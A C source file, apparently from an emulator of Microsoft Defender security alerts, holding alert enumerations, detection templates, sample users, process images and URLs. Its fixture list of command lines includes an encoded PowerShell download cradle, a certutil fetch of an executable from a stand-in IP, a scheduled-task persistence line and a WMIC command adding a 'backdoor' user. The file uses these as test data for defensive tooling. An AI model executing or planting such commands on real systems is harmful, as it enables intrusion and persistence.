/*
 * catalog.c - the static vocabulary of the emulator: Graph enumerations
 * (spec §3.6, in documented order, evolvable members last) and the pools
 * of detection templates, people, images and command lines that the
 * generator combines. Only data and two lookups live here.
 */
#include "emulator/internal.h"

#include <stdio.h>
#include <strings.h>

#define ENUM(var, evolvable_from, ...)                                                                       \
    static const char *const var##_members[] = {__VA_ARGS__};                                                \
    const struct mds_emu_enum var = {                                                                        \
        var##_members, (int)(sizeof var##_members / sizeof var##_members[0]),                                \
        evolvable_from < 0 ? (int)(sizeof var##_members / sizeof var##_members[0]) : evolvable_from}

ENUM(mds_emu_severity, -1, "unknown", "informational", "low", "medium", "high", "unknownFutureValue");
ENUM(mds_emu_status, -1, "unknown", "new", "inProgress", "resolved", "unknownFutureValue");
ENUM(mds_emu_classification, -1, "unknown", "falsePositive", "truePositive", "informationalExpectedActivity",
     "unknownFutureValue");
ENUM(mds_emu_determination, -1, "unknown", "apt", "malware", "securityPersonnel", "securityTesting",
     "unwantedSoftware", "other", "multiStagedAttack", "compromisedAccount", "phishing",
     "maliciousUserActivity", "notMalicious", "notEnoughDataToValidate", "confirmedActivity",
     "lineOfBusinessApplication", "unknownFutureValue");
ENUM(mds_emu_service_source, 10, "unknown", "microsoftDefenderForEndpoint", "microsoftDefenderForIdentity",
     "microsoftDefenderForCloudApps", "microsoftDefenderForOffice365", "microsoft365Defender",
     "azureAdIdentityProtection", "microsoftAppGovernance", "dataLossPrevention", "unknownFutureValue",
     "microsoftDefenderForCloud", "microsoftSentinel", "microsoftThreatIntelligence");
ENUM(mds_emu_detection_source, 18, "unknown", "microsoftDefenderForEndpoint", "antivirus", "smartScreen",
     "customTi", "microsoftDefenderForOffice365", "automatedInvestigation", "microsoftThreatExperts",
     "customDetection", "microsoftDefenderForIdentity", "cloudAppSecurity", "microsoft365Defender",
     "azureAdIdentityProtection", "manual", "microsoftDataLossPrevention", "appGovernancePolicy",
     "appGovernanceDetection", "unknownFutureValue", "microsoftDefenderForCloud", "microsoftDefenderForIoT",
     "microsoftDefenderForServers", "nrtAlerts", "scheduledAlerts", "builtInMl", "microsoftSentinel");
ENUM(mds_emu_verdict, -1, "unknown", "suspicious", "malicious", "noThreatsFound", "unknownFutureValue");
ENUM(mds_emu_remediation, 6, "none", "remediated", "prevented", "blocked", "notFound", "unknownFutureValue",
     "active", "pendingApproval", "declined", "unremediated", "running", "partiallyRemediated");
ENUM(mds_emu_role, -1, "unknown", "contextual", "scanned", "source", "destination", "created", "added",
     "compromised", "edited", "attacked", "attacker", "commandAndControl", "loaded", "suspicious",
     "policyViolator", "unknownFutureValue");
ENUM(mds_emu_detection_status, -1, "detected", "blocked", "prevented", "unknownFutureValue");
ENUM(mds_emu_health, -1, "active", "inactive", "impairedCommunication", "noSensorData",
     "noSensorDataImpairedCommunication", "unknown", "unknownFutureValue");
ENUM(mds_emu_risk, -1, "none", "informational", "low", "medium", "high", "unknownFutureValue");
ENUM(mds_emu_onboarding, -1, "insufficientInfo", "onboarded", "canBeOnboarded", "unsupported",
     "unknownFutureValue");
ENUM(mds_emu_av_status, -1, "notReporting", "disabled", "notUpdated", "updated", "unknown", "notSupported",
     "unknownFutureValue");
ENUM(mds_emu_investigation, -1, "unknown", "terminated", "successfullyRemediated", "benign", "failed",
     "partiallyRemediated", "running", "pendingApproval", "pendingResource", "queued", "innerFailure",
     "preexistingAlert", "unsupportedOs", "unsupportedAlertType", "suppressedAlert", "partiallyInvestigated",
     "terminatedByUser", "terminatedBySystem", "unknownFutureValue");
ENUM(mds_emu_incident_status, 5, "active", "resolved", "inProgress", "redirected", "unknownFutureValue",
     "awaitingAction");

int mds_emu_enum_find(const struct mds_emu_enum *e, const char *name)
{
    for (int i = 0; i < e->count; i++)
        if (strcasecmp(e->names[i], name) == 0)
            return i;
    return -1;
}

const char *mds_emu_enum_name(const struct mds_emu_enum *e, int i, int include_unknown)
{
    if (i < 0 || i >= e->count)
        return "unknown";
    if (i >= e->evolvable && !include_unknown)
        return "unknownFutureValue";
    return e->names[i];
}

/* Indexes into the enums above, named for readability of the table. */
enum { SVC_MDE = 1, SVC_MDI = 2, SVC_MDCA = 3, SVC_MDO = 4, SVC_M365D = 5, SVC_AADIP = 6 };
enum {
    DET_EDR = 1,
    DET_AV = 2,
    DET_SMARTSCREEN = 3,
    DET_CUSTOMTI = 4,
    DET_MDO = 5,
    DET_AIR = 6,
    DET_MTE = 7,
    DET_CUSTOM = 8,
    DET_MDI = 9,
    DET_MCAS = 10,
    DET_M365D = 11,
    DET_AADIP = 12
};

/* The tables below are prose and data: they read better unwrapped. */
/* clang-format off */
const struct mds_emu_template mds_emu_templates[] = {
    {"Suspicious execution of hidden file", "DefenseEvasion", "T1564.001", SVC_MDE, DET_EDR,
     MDS_EMU_SEV_LOW, NULL, NULL, NULL,
     "A hidden file has been launched. This activity could indicate a compromised host. Attackers often hide "
     "files associated with malicious tools to evade file system inspection and defenses. The file was started "
     "from a user-writable directory shortly after it was created.",
     "1. Make sure the machine is completely updated and all your software has the latest patch.\n"
     "2. Contact your incident response team.\n\t\u2022 Review the process tree for parent processes.\n"
     "\t\u2022 Check whether the hidden file is signed and by whom.",
     "svch0st.exe"},
    {"Suspicious PowerShell command line", "Execution", "T1059.001 T1027", SVC_MDE, DET_EDR, MDS_EMU_SEV_MEDIUM,
     NULL, NULL, NULL,
     "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell "
     "was used during installation, exploration, or in some cases in lateral movement activities which are used "
     "by attackers to invoke modules, download external payloads, or get more information about the system. "
     "Attackers usually use PowerShell to bypass security protection mechanisms by executing their payload in "
     "memory without touching the disk and leaving any trace.",
     "Examine the PowerShell command line to understand what commands were executed. Note: the content may "
     "need to be decoded if it is Base64-encoded.\nSearch the script for more indicators to investigate - for "
     "example IP addresses (potential C&C servers), target computers, or other modules.\nCheck for connections "
     "to untrusted IP addresses and block them in your firewall if they are malicious.",
     "powershell.exe"},
    {"Mimikatz credential theft tool", "CredentialAccess", "T1003.001 T1558.003", SVC_MDE, DET_AV,
     MDS_EMU_SEV_HIGH, "HackTool:Win32/Mimikatz!dha", "Mimikatz", NULL,
     "The Mimikatz credential theft tool was detected on this device. Mimikatz is used to obtain plaintext "
     "passwords, hashes and Kerberos tickets from memory. Attackers use the harvested credentials to move "
     "laterally and escalate privileges; the file was quarantined by Microsoft Defender Antivirus.",
     "Reset the credentials of every account that signed in to the device.\nInvestigate the device timeline for "
     "lateral movement.\n\u2022 Run a full antivirus scan.\n\u2022 Isolate the device if more activity follows.",
     "mimikatz.exe"},
    {"Ransomware behavior detected in the file system", "Impact", "T1486 T1490", SVC_MDE, DET_EDR,
     MDS_EMU_SEV_HIGH, "Ransom:Win32/LockBit.MK!MTB", "LockBit", "Storm-1811",
     "A process encrypted files at a high rate and deleted volume shadow copies, which is a strong indicator of "
     "ransomware. Files on local drives and mapped network shares were renamed with a new extension and a ransom "
     "note was dropped in several folders.",
     "Isolate the device immediately.\nIdentify the initial access vector and any compromised accounts.\nRestore "
     "affected files from offline backups after the device is cleaned.\n\t\u2022 Check network shares for "
     "encrypted files.",
     "lockbit3.exe"},
    {"Connection to a custom network indicator", "CommandAndControl", "T1071.001", SVC_MDE, DET_CUSTOMTI,
     MDS_EMU_SEV_MEDIUM, NULL, NULL, NULL,
     "An endpoint has connected to a URL or domain that your organization added to the custom indicator list. "
     "The connection was allowed or blocked according to the indicator action; review the process that opened "
     "the connection.",
     "Review the custom indicator that matched.\nCheck the initiating process and its command line.\nIf the "
     "connection was allowed, consider changing the indicator action to block.",
     "chrome.exe"},
    {"Anomalous scheduled task creation", "Persistence", "T1053.005", SVC_MDE, DET_EDR, MDS_EMU_SEV_MEDIUM, NULL,
     NULL, NULL,
     "A scheduled task was created by an unusual process. Attackers create scheduled tasks to maintain "
     "persistence on a compromised device and to run payloads with elevated privileges at logon or at regular "
     "intervals.",
     "Review the task definition and the binary it runs.\nDelete the task if it is not expected.\n\u2022 Look "
     "for the same task name on other devices.",
     "schtasks.exe"},
    {"Suspicious LDAP query", "Discovery", "T1087.002 T1069.002", SVC_MDI, DET_MDI, MDS_EMU_SEV_MEDIUM, NULL,
     NULL, NULL,
     "A suspicious Lightweight Directory Access Protocol (LDAP) query was detected, associated with a known "
     "reconnaissance tool. Attackers enumerate privileged groups and service accounts to choose their next "
     "targets.",
     "Investigate the source computer and the account that ran the query.\nCheck whether the tool is used by "
     "administrators for legitimate purposes.",
     "adfind.exe"},
    {"Email messages containing malicious URL removed after delivery", "InitialAccess", "T1566.002", SVC_MDO,
     DET_MDO, MDS_EMU_SEV_INFORMATIONAL, NULL, NULL, NULL,
     "Emails with a malicious URL were delivered and later removed by zero-hour auto purge. Users who clicked "
     "the link before removal may have entered credentials on a phishing page.",
     "Review the user click data for the URL.\nReset the passwords of users who submitted credentials.",
     "outlook.exe"},
    {"Impossible travel activity", "InitialAccess", "T1078", SVC_MDCA, DET_MCAS, MDS_EMU_SEV_MEDIUM, NULL, NULL,
     NULL,
     "The user signed in from two geographically distant locations within a time period shorter than the time "
     "it would take to travel between them. This can indicate that a different user is using the same "
     "credentials.",
     "Confirm with the user whether the sign-ins are expected.\nRequire a password reset and MFA "
     "re-registration if they are not.",
     "msedge.exe"},
    {"'Emotet' malware was prevented", "Malware", "T1204.002 T1566.001", SVC_MDE, DET_AV, MDS_EMU_SEV_LOW,
     "TrojanDownloader:O97M/Emotet.PE!MTB", "Emotet", NULL,
     "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful "
     "actions on affected machines. This detection might indicate that the malware was stopped from delivering "
     "its payload; the malicious macro document was blocked when it was opened.",
     "Collect artifacts and determine scope.\n\u2022 Review the machine timeline.\n\u2022 Submit the file for "
     "deep analysis.",
     "winword.exe"},
    {"Suspicious process injection observed", "DefenseEvasion", "T1055 T1055.012", SVC_MDE, DET_EDR,
     MDS_EMU_SEV_HIGH, NULL, NULL, "Manatee Tempest",
     "A process injected code into another process. Attackers inject into trusted processes to hide malicious "
     "code and to inherit their privileges and network access.",
     "Investigate the injecting process and its parent.\nCollect a memory image if possible.\nIsolate the device "
     "if the injection target is a system process.",
     "rundll32.exe"},
    {"Lateral movement using remote service creation", "LateralMovement", "T1021.002 T1569.002", SVC_M365D,
     DET_M365D, MDS_EMU_SEV_HIGH, NULL, NULL, NULL,
     "A remote service was created on this device by an account from another device, similar to PsExec. "
     "Attackers use remote services to run commands on other devices after stealing credentials.",
     "Identify the source device and account.\nCheck the service binary.\n\t\u2022 Disable the account if the "
     "activity is not expected.",
     "psexesvc.exe"},
    {"Atypical sign-in from an unfamiliar location", "InitialAccess", "T1078.004", SVC_AADIP, DET_AADIP,
     MDS_EMU_SEV_LOW, NULL, NULL, NULL,
     "A sign-in occurred with properties that are unusual for this user, including location, device and "
     "network. This is a risk detection of Microsoft Entra ID Protection.",
     "Ask the user to confirm the sign-in.\nEnforce a risk-based conditional access policy.",
     "msedge.exe"},
    {"Suspicious file dropped by a browser", "Execution", "T1204.002", SVC_MDE, DET_SMARTSCREEN, MDS_EMU_SEV_LOW,
     NULL, NULL, NULL,
     "Microsoft Defender SmartScreen flagged a downloaded file as potentially unsafe. The file was saved to the "
     "Downloads folder by the browser and later executed by the user.",
     "Verify the file reputation.\nRemove the file if it is not legitimate.",
     "setup_install.exe"},
    {"Automated investigation found malicious activity", "SuspiciousActivity", "T1036", SVC_MDE, DET_AIR,
     MDS_EMU_SEV_MEDIUM, NULL, NULL, NULL,
     "An automated investigation found malicious entities on the device and remediated some of them. Review the "
     "investigation graph for pending actions.",
     "Approve the pending actions in the Action center.\nReview the remaining evidence.",
     "svchost.exe"},
    {"Hands-on-keyboard attack involving multiple devices", "SuspiciousActivity", "T1059 T1570 T1021",
     SVC_MDE, DET_MTE, MDS_EMU_SEV_HIGH, NULL, NULL, "Octo Tempest",
     "Microsoft Defender Experts observed a human-operated attack moving between several devices with stolen "
     "credentials and remote execution tools.",
     "Follow the Defender Experts guidance attached to the incident.\nIsolate the affected devices.",
     "cmd.exe"},
};
const size_t mds_emu_template_count = sizeof mds_emu_templates / sizeof mds_emu_templates[0];

const struct mds_emu_person mds_emu_people[] = {
    {"liz.bean", "Liz Bean"},       {"jay.hardee", "Jay Hardee"},         {"j\u00fcrgen.m\u00fcller", "J\u00fcrgen M\u00fcller"},
    {"sofia.garcia", "Sof\u00eda Garc\u00eda"}, {"svc_backup", "Backup Service"}, {"administrator", "Administrator"},
    {"yamada.taro", "\u5c71\u7530 \u592a\u90ce"}, {"o.brien", "Orla O'Brien"},      {"amelie.dubois", "Am\u00e9lie Dubois"},
    {"k.nowak", "Krzysztof Nowak"},
};
const size_t mds_emu_people_count = sizeof mds_emu_people / sizeof mds_emu_people[0];

const struct mds_emu_image mds_emu_images[] = {
    {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "Microsoft Corporation",
     "Microsoft Windows", "Microsoft Windows Production PCA 2011"},
    {"cmd.exe", "C:\\Windows\\System32", "Microsoft Corporation", "Microsoft Windows",
     "Microsoft Windows Production PCA 2011"},
    {"rundll32.exe", "C:\\Windows\\System32", "Microsoft Corporation", "Microsoft Windows",
     "Microsoft Windows Production PCA 2011"},
    {"explorer.exe", "C:\\Windows", "Microsoft Corporation", "Microsoft Windows",
     "Microsoft Windows Production PCA 2011"},
    {"winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16", "Microsoft Corporation",
     "Microsoft Corporation", "Microsoft Code Signing PCA 2011"},
    {"chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", "Google LLC", "Google LLC",
     "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1"},
    {"svch0st.exe", "C:\\Users\\Public\\Libraries", "", "", ""},
    {"\u8acb\u6c42\u66f8.exe", "C:\\Users\\yamada.taro\\Downloads", "", "", ""},
    {"\u00dcberweisung.pdf.exe", "C:\\Users\\j\u00fcrgen.m\u00fcller\\AppData\\Local\\Temp", "", "", ""},
    {"wmic.exe", "C:\\Windows\\System32\\wbem", "Microsoft Corporation", "Microsoft Windows",
     "Microsoft Windows Production PCA 2011"},
};
const size_t mds_emu_image_count = sizeof mds_emu_images / sizeof mds_emu_images[0];

const char *const mds_emu_domains[] = {"contoso.com", "fabrikam.local", "corp.northwindtraders.com",
                                       "ad.woodgrovebank.net"};
const size_t mds_emu_domain_count = sizeof mds_emu_domains / sizeof mds_emu_domains[0];

const char *const mds_emu_groups[] = {"UKMachines", "FranceMachines", "Servers-Tier0", "Workstations",
                                      "Finance Laptops"};
const size_t mds_emu_group_count = sizeof mds_emu_groups / sizeof mds_emu_groups[0];

/* Command lines exercise every escaping rule of the output formats:
 * quotes, pipes, '=', tabs, backslashes and non-ASCII. */
const char *const mds_emu_cmdlines[] = {
    "\"%s\" -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "\"%s\" /c \"whoami /all | findstr /i admin > C:\\Users\\Public\\o.txt\"",
    "%s C:\\Users\\Public\\Libraries\\payload.dll,DllRegisterServer key=7f3a",
    "\"%s\" /create /tn \"Microsoft\\Windows\\Updater\" /tr \"C:\\ProgramData\\upd.exe --mode=silent\" /sc minute /mo 5",
    "%s -urlcache -split -f \"http://198.51.100.23/a.exe?id=5&k=7\" a.exe",
    "\"%s\" /c echo\tpayload=1 | more > \"C:\\Temp\\\u00fcbung.txt\"",
    "\"%s\" \"C:\\Users\\j\u00fcrgen.m\u00fcller\\Documents\\\u00dcberweisung_M\u00e4rz.docm\"",
    "%s process call create \"cmd.exe /c net user backdoor P@ss=w0rd /add\"",
    "\"%s\" --type=renderer --lang=ja --field-trial-handle=1720,\u8a2d\u5b9a 12",
};
const size_t mds_emu_cmdline_count = sizeof mds_emu_cmdlines / sizeof mds_emu_cmdlines[0];

const char *const mds_emu_analysts[] = {NULL, "secops@contoso.com", "analyst1@contoso.com",
                                        "t1.tier@contoso.com", "Automation"};
const size_t mds_emu_analyst_count = sizeof mds_emu_analysts / sizeof mds_emu_analysts[0];

const char *const mds_emu_urls[] = {
    "http://198.51.100.23/a.exe?id=5&k=7", "https://login.micros0ft-online.example/common/oauth2",
    "down.esales360.example", "https://cdn.example.net/update/setup_install.exe",
    "https://contoso-my.sharepoint.example/personal/liz_bean/Documents/Invoice%20M\u00e4rz.html",
};
const size_t mds_emu_url_count = sizeof mds_emu_urls / sizeof mds_emu_urls[0];
/* clang-format on */

/* MDE API (PascalCase) and legacy SIEM ("Source") names of the Graph
 * detectionSource members, by index. */
static const struct {
    const char *mde, *siem;
} detection_names[] = {
    {"Unknown", ""},
    {"WindowsDefenderAtp", "EDR"},
    {"WindowsDefenderAv", "Antivirus"},
    {"WindowsDefenderSmartScreen", "SmartScreen"},
    {"CustomerTI", "Custom TI"},
    {"OfficeATP", "Microsoft Defender for Office 365"},
    {"AutomatedInvestigation", "Automated investigation"},
    {"ThreatExperts", "Microsoft Threat Experts"},
    {"CustomDetection", "Custom detection"},
    {"AzureAtp", "Microsoft Defender for Identity"},
    {"MCAS", "Microsoft Defender for Cloud Apps"},
    {"MTP", "Microsoft 365 Defender"},
    {"AadIdentityProtection", "Azure AD Identity Protection"},
    {"Manual", "Manual"},
};

const char *mds_emu_detection_mde(int i)
{
    return i > 0 && (size_t)i < sizeof detection_names / sizeof detection_names[0] ? detection_names[i].mde
                                                                                   : "Unknown";
}

const char *mds_emu_detection_siem(int i)
{
    return i > 0 && (size_t)i < sizeof detection_names / sizeof detection_names[0] ? detection_names[i].siem
                                                                                   : "";
}

/* Graph determination -> MDE determination where the words differ. */
static const char *const mde_determinations[] = {NULL,
                                                 "Apt",
                                                 "Malware",
                                                 "SecurityPersonnel",
                                                 "SecurityTesting",
                                                 "UnwantedSoftware",
                                                 "Other",
                                                 "MultiStagedAttack",
                                                 "CompromisedUser",
                                                 "Phishing",
                                                 "MaliciousUserActivity",
                                                 "Clean",
                                                 "InsufficientData",
                                                 "ConfirmedUserActivity",
                                                 "LineOfBusinessApplication",
                                                 NULL};

const char *mds_emu_determination_mde(int i)
{
    return i >= 0 && (size_t)i < sizeof mde_determinations / sizeof mde_determinations[0]
               ? mde_determinations[i]
               : NULL;
}

void mds_emu_pascal(const char *camel, char *out, size_t n)
{
    snprintf(out, n, "%s", camel);
    if (out[0] >= 'a' && out[0] <= 'z')
        out[0] = (char)(out[0] - 'a' + 'A');
}
